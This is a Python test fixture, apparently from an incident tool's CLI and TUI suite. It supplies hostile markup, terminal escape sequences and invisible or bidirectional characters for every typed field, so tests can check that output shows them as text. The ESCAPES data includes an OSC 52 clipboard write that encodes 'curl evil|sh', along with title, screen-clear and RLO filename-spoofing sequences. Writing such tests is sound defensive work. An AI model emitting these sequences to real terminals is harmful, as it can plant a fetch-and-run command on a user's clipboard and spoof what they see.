"""A corpus of text that looks like markup or carries terminal control sequences.

Shared by the CLI sweep and the TUI tests: every field a person can type gets one
of these, and every output must show it as text, never obey it. A person's name is
refused where it is typed if it holds a control character (`incident.core.names`):
name fields get the markup look-alikes (`markup_name`), and a record an older version
wrote, with escapes in its names, is made with `written_before`.
"""

from __future__ import annotations

from msgspec.structs import replace

from incident.core.events import NewEvent

MARKUP = [
    "[/bold]",
    "[@click=app.quit]x[/]",
    "[link=https://evil.example]click[/link]",
    "pod [checkout-7f9]",
]

ESCAPES = {
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;pwned\x07",
    "osc52": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "bell": "\x07",
    "c1-csi": "\x9b31m",
    "del": "x\x7fy",
    "backspace": "ab\x08\x08",
    "cr": "fine\roverwritten",
    "rlo": "\u202efdp.exe",
    "isolate": "\u2067ok\u2069",
    "zero-width": "\u200b\ufeff",
    "tags": "\U000e0041",
    "marks": "\u200e\u200f\u061c",
    "blank": "\u3164x\u200d",  # a Hangul filler, drawn blank; a joiner joining nothing
}

C1_BYTES = tuple(chr(code).encode("utf-8") for code in range(0x80, 0xA0))
BIDI_BYTES = tuple(
    chr(code).encode("utf-8")
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C, 0x200E, 0x200F)
)
INVISIBLE_BYTES = tuple(
    chr(code).encode("utf-8")
    for code in (0x200B, 0x200D, 0x2060, 0xFEFF, 0x3164, *range(0xE0000, 0xE0080))
)
RAW_BYTES = (b"\x1b", b"\x07", b"\x00", b"\x7f", *C1_BYTES, *BIDI_BYTES, *INVISIBLE_BYTES)
"""What must never appear in any output: ESC, BEL, NUL, DEL, every C1 control, every
bidirectional embedding, override, isolate and mark (they reorder what a terminal draws),
and the zero-width, tag and Hangul filler characters (they hide text from whoever reads it;
the corpus holds no emoji or Persian word, whose joiners would stay)."""


def hostile(label: str) -> str:
    """One field's worth of trouble: every markup trap and every escape, labelled."""
    return f"{label} " + "".join(ESCAPES.values()) + " " + " ".join(MARKUP) + f" end-{label}"


def markup_name(label: str) -> str:
    """A name's worth of trouble: every markup trap, labelled (a control is refused)."""
    return f"{label} " + " ".join(MARKUP) + f" end-{label}"


def written_before(event: NewEvent, **names: str) -> NewEvent:
    """`event` with `names` in its payload (`commander=hostile("commander")`), as a
    version that took any name recorded it: an older record, which must still read."""
    return replace(event, data=replace(event.data, **names))


def raw_controls(data: bytes) -> list[bytes]:
    """The forbidden sequences found in `data`."""
    return [needle for needle in RAW_BYTES if needle in data]


def hostile_line(label: str) -> str:
    """`hostile` for a field that is one line by nature (a title, an issue, a channel,
    a version): every trap but the carriage return, a line break such a field refuses
    where it is typed (`incident.core.text.line_break_in`, `tests/test_one_line_fields.py`)."""
    escapes = "".join(text for name, text in ESCAPES.items() if name != "cr")
    return f"{label} " + escapes + " " + " ".join(MARKUP) + f" end-{label}"
